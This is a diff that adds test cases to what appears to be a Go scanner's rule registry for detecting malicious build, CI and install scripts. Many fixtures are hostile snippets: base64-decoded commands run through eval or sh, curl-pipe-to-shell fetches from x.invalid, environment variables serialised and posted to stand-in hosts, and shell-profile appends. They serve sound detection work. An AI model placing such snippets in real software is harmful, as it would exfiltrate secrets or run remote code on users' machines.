@@ -66,13 +66,38 @@ var registry = []Rule{
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 			// A Cake build script decoding a command and starting it.
 			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
+			// eval called by a name spelled backwards or joined from letters,
+			// and PHP including the decoded code as a data: stream.
+			{"lib/x/banner.rb", "SIG = '73797374656d2822696422292'\nsrc = [SIG].pack('H*')\nKernel.public_send(%w[l a v e].reverse.join, src)", 3, false},
+			{"x.py", "import base64, builtins\nc = base64.b64decode(P)\ngetattr(builtins, 'cexe'[::-1])(c)", 3, false},
+			{"src/Boot.php", "<?php\n$l = gzinflate(base64_decode(self::L));\ninclude 'data://text/plain;base64,' . base64_encode('<?php ' . $l);", 3, false},
+			// A setter called by an interpolated name, a socket's send: no code runs.
+			{"lib/x/rec.rb", "data = Base64.decode64(v)\nrecord.public_send(\"#{key}=\", data)\nsock.send(data, 0)", 0, true},
+			{"x.py", "import base64\np = base64.b64decode(m)\nsock.send(b''.join([p]))\ngetattr(self, 'on_' + kind)(p)", 0, true},
+			// The recipe shell of a Containerfile and of debian/rules (a
+			// Makefile dpkg-buildpackage runs), over continued lines too.
+			{"ci/builder.Containerfile", "FROM debian\nARG H=Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo\nRUN apt-get update \\\n&& echo \"$H\" \\\n  | base64 -d \\\n  | sh", 6, false},
+			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_build:\n\tcat tests/files/x.xz | tr '\\t \\-_' ' \\t_\\-' | xz -dc | sh", 5, false},
+			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_test:\n\txz -dc tests/data.xz > tests/data\n\tdh_auto_test", 0, true},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// PowerShell's call operator runs the program it names: fetched
+		// release data handed to a tool is its arguments; to a launcher
+		// (msiexec, a shell, an interpreter) it is what runs.
+		{"tools/up.ps1", "$r = Invoke-RestMethod -Uri \"https://api.x.invalid/releases/latest\"\n$u = $r.assets | ForEach-Object { $_.browser_download_url }\n& komac update Pkg --urls $u", 0, true},
+		{"tools/up.ps1", "$r = Invoke-RestMethod -Uri \"https://api.x.invalid/releases/latest\"\n$u = $r.assets | ForEach-Object { $_.browser_download_url }\n& msiexec /i $u /qn", 3, false},
+		// A program that fetches a well-known owner's release to run it on
+		// the runner: how a loader brings its own runtime.
+		{"scripts/setup.mjs", "execFileSync('sh', ['-c', `curl -fsSL https://github.com/oven-sh/bun/releases/download/bun-v1.3.13/bun-linux-x64.zip -o ${d}/b.zip && unzip -oq ${d}/b.zip -d ${d}`]);\nexecFileSync(join(d, 'bun-linux-x64', 'bun'), ['x.js'], { detached: true });", 2, false},
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
 		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
+		// A RUN here-document is the build shell's script, continued lines
+		// and all; one that checks a sum before it unpacks runs nothing.
+		{"Containerfile", "FROM alpine\nRUN <<EOF\ncurl -fsSL https://x.invalid/i \\\n  | sh\nEOF", 4, false},
+		{"Dockerfile", "FROM alpine\nRUN bash <<'EOF'\nset -e\ncurl -fsSLo t.tgz https://x.invalid/t.tgz\necho \"0123  t.tgz\" | sha256sum -c\ntar xzf t.tgz\nEOF", 0, true},
 		// A Jenkinsfile's load evaluates the Groovy file a sh step fetched.
 		{"Jenkinsfile", "node {\n  sh 'curl -sSfL https://x.invalid/ci.groovy -o ci.groovy'\n  def ci = load 'ci.groovy'\n}", 3, false},
 		{"x.bat", "certutil.exe -urlcache -split -f http://x.invalid/sdd.dll sdd.dll\nregsvr32.exe -s sdd.dll", 2, false},
@@ -204,6 +229,10 @@ var registry = []Rule{
 			{".gitlab-ci.yml", "scan:\n  before_script:\n    - curl -sfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /usr/local/bin", 3, false},
 			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -sS https://starship.rs/install.sh | sh -s -- -y", 6, false},
 			{"install.sh", "powershell -c \"irm bun.sh/install.ps1|iex\"", 0, false},
+			{".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://drager.github.io/wasm-pack/installer/init.sh -sSf | sh", 6, false},
+			{"ci/check.sh", "curl -sfL https://goreleaser.com/static/run | bash -s -- check", 0, false},
+			// A well-known owner's release an image build puts in the image.
+			{"Dockerfile", "FROM alpine AS build\nARG V=0.19.3\nRUN curl -fLo /out/buildx \"https://github.com/docker/buildx/releases/download/v${V}/buildx-v${V}.linux-amd64\"\nFROM alpine\nCOPY --from=build /out/buildx /usr/local/lib/docker/cli-plugins/docker-buildx", 5, false},
 			// The URL built from the file's own variables.
 			{"tools/install-t.sh", "install() {\n  local sub=\"PowerShell/PowerShell/master\"\n  local root=\"https://raw.githubusercontent.com/$sub/tools\"\n  bash <(curl -s $root/installpsh-\"$D\".sh)\n}", 4, false},
 			// A release's installer at a version tag, and the installer of
@@ -222,6 +251,8 @@ var registry = []Rule{
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
 			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b`, 0, true},
+			// The name the reply is stored in receives a token, it sends none.
+			{"x.sh", "export SESSION_TOKEN=$(curl -s -X POST https://auth.x.invalid/login -d user=ci | jq -r .token)\n[ -n \"$SESSION_TOKEN\" ] || exit 1", 0, true},
 			// A macro's env argument put into a map is neither the environment nor a send.
 			{"lib/x/defn.ex", "defmacro __before_compile__(env) do\n  exports = Module.get_attribute(env.module, :k)\n  Map.put(exports, {name, arity}, env)\nend", 0, true},
 			{"x.sh", "curl -s -d \"$(env)\" https://x.invalid/c", 0, false},
@@ -236,6 +267,13 @@ var registry = []Rule{
 			{".buildkite/pipeline.yml", "steps:\n  - command: |\n      printenv -0 | gzip -9 | base64 -w0 > .cache/e.b64\n      make test\n      wget -q -O /dev/null --post-file=.cache/e.b64 https://x.invalid/i", 5, false},
 			{".gitlab-ci.yml", "test:\n  script:\n    - declare -px > /tmp/e\n    - pytest\n    - aws --region eu-west-1 s3 cp /tmp/e s3://x-invalid/e --acl public-read", 5, false},
 			{"Jenkinsfile", "pipeline {\n  stages {\n    stage('t') {\n      steps {\n        sh \"\"\"\n          export > env.txt\n          make check\n          curl -sT env.txt https://x.invalid/u\n        \"\"\"\n      }\n    }\n  }\n}", 8, false},
+			// Groovy and the JVM's HTTP clients: the environment serialised
+			// and written to a connection; one build variable in a chat
+			// message is not the environment.
+			{"Jenkinsfile", "node {\n  def s = groovy.json.JsonOutput.toJson(System.getenv())\n  def c = new URL('https://x.invalid/i').openConnection()\n  c.doOutput = true\n  c.outputStream.withWriter { it << s }\n}", 5, false},
+			{"build.gradle.kts", "val body = System.getenv().toString()\nval req = HttpRequest.newBuilder(URI(\"https://x.invalid/i\")).POST(HttpRequest.BodyPublishers.ofString(body)).build()", 2, false},
+			{"Jenkinsfile", "node {\n  def s = groovy.json.JsonOutput.toJson([job: env.JOB_NAME, result: currentBuild.currentResult])\n  def c = new URL('https://chat.x.invalid/hook').openConnection()\n  c.doOutput = true\n  c.outputStream.withWriter { it << s }\n}", 0, true},
+			{"Jenkinsfile", "node {\n  def b = groovy.json.JsonOutput.toJson(env.getEnvironment())\n  httpRequest url: 'https://x.invalid/i', httpMode: 'POST', requestBody: b\n}", 3, false},
 			{"Taskfile.yml", "version: '3'\ntasks:\n  test:\n    cmds:\n      - jq -n env > env.json\n      - go test ./...\n      - http POST https://x.invalid/u < env.json", 7, false},
 			{"x.sh", "cat ~/.npmrc > /tmp/n\nopenssl enc -aes-256-cbc -k k -in /tmp/n -out /tmp/n.enc\nrclone copy /tmp/n.enc drop:bucket", 3, false},
 			{"x.sh", "env > /tmp/e\npython3 - <<'EOF'\nimport requests\nrequests.post('https://x.invalid', data=open('/tmp/e').read())\nEOF", 2, false},
@@ -344,6 +382,18 @@ var registry = []Rule{
 			{"x.sh", "sudo cp agent.service /./etc/systemd/system/agent.service", 0, false},
 			{"x.js", "const rc = path.join(os.homedir(), '.bashrc')\nfs.appendFileSync(rc, line)", 2, false},
 			{"x.py", "with open(os.path.expanduser('~/.zshrc'), 'a') as f:", 0, false},
+			// A Ruby block's or a callback's parameter holds the list's profiles.
+			{"lib/x/doctor.rb", "def fix\n  %w[~/.zshrc ~/.bashrc].map { |f| File.expand_path(f) }.each do |rc|\n    File.open(rc, 'a') { |io| io.puts 'eval \"$(x env)\"' }\n  end\nend", 3, false},
+			{"x.js", "const os = require('os'), fs = require('fs')\n['~/.bashrc', '~/.zshrc'].forEach((rc) => {\n  fs.appendFileSync(rc.replace('~', os.homedir()), 'x')\n})", 3, false},
+			{"lib/x/doctor.rb", "%w[~/.zshrc ~/.bashrc].each do |rc|\n  puts File.read(File.expand_path(rc)) if File.exist?(File.expand_path(rc))\nend", 0, true},
+			// Each language's append: a path built by a call, Perl's >>, the
+			// JVM's File and Files; a list of profile paths is not a write.
+			{"setup.py", "import os\nwith open(os.path.join(os.environ['HOME'], '.bashrc'), 'a') as f:\n    f.write('x')", 2, false},
+			{"Makefile.PL", "open(my $fh, '>>', \"$ENV{HOME}/.bashrc\") or die;\nprint $fh \"x\\n\";", 1, false},
+			{"vars/setup.groovy", "def rc = new File(System.getProperty('user.home'), '.bashrc')\nrc.append('x')", 2, false},
+			{"build.gradle", "new File(System.getProperty('user.home') + '/.zshrc') << 'x'", 1, false},
+			{"build.gradle.kts", "Files.writeString(Path.of(System.getProperty(\"user.home\"), \".bashrc\"), \"x\", StandardOpenOption.APPEND)", 1, false},
+			{"lib/x/paths.rb", "rcs = []\nrcs << '~/.bashrc'\nrcs.each { |rc| puts rc }", 0, true},
 			{"x.sh", "echo hi | tee -a ~/.profile", 0, false},
 			{"x.sh", "source ~/.bashrc", 0, true},
 		}},
